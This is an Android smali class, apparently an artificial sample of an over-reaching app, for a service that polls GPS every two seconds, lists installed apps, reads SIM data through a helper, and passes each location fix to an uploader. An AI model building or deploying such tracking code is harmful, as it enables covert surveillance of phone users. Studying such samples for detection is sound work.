# Stays alive in its own process; asks for the position every two seconds and lists the installed apps.
.class public Lcom/example/greedy/KeepAliveService;
.super Landroid/app/Service;
.implements Landroid/location/LocationListener;

.method public constructor <init>()V
    .locals 0
    invoke-direct {p0}, Landroid/app/Service;-><init>()V
    return-void
.end method

.method public onBind(Landroid/content/Intent;)Landroid/os/IBinder;
    .locals 1
    const/4 v0, 0x0
    return-object v0
.end method

.method public onStartCommand(Landroid/content/Intent;II)I
    .locals 6
    const-string v0, "location"
    invoke-virtual {p0, v0}, Lcom/example/greedy/KeepAliveService;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
    move-result-object v0
    check-cast v0, Landroid/location/LocationManager;
    const-string v1, "gps"
    const-wide/16 v2, 0x7d0
    const/4 v4, 0x0
    move-object v5, p0
    invoke-virtual/range {v0 .. v5}, Landroid/location/LocationManager;->requestLocationUpdates(Ljava/lang/String;JFLandroid/location/LocationListener;)V
    invoke-virtual {p0}, Lcom/example/greedy/KeepAliveService;->getPackageManager()Landroid/content/pm/PackageManager;
    move-result-object v0
    const/4 v1, 0x0
    invoke-virtual {v0, v1}, Landroid/content/pm/PackageManager;->getInstalledPackages(I)Ljava/util/List;
    invoke-static {p0}, Lcom/example/greedy/SimProbe;->read(Landroid/content/Context;)Ljava/lang/String;
    const/4 v0, 0x1
    return v0
.end method

.method public onLocationChanged(Landroid/location/Location;)V
    .locals 3
    invoke-virtual {p1}, Landroid/location/Location;->getLatitude()D
    move-result-wide v0
    invoke-static {v0, v1}, Ljava/lang/Double;->toString(D)Ljava/lang/String;
    move-result-object v0
    invoke-virtual {p1}, Landroid/location/Location;->getLongitude()D
    move-result-wide v1
    invoke-static {v1, v2}, Ljava/lang/Double;->toString(D)Ljava/lang/String;
    move-result-object v1
    const-string v2, "location"
    invoke-static {v2, v0, v1}, Lcom/example/greedy/Uploader;->send(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;)V
    return-void
.end method

.method public onStatusChanged(Ljava/lang/String;ILandroid/os/Bundle;)V
    .locals 0
    return-void
.end method

.method public onProviderEnabled(Ljava/lang/String;)V
    .locals 0
    return-void
.end method

.method public onProviderDisabled(Ljava/lang/String;)V
    .locals 0
    return-void
.end method
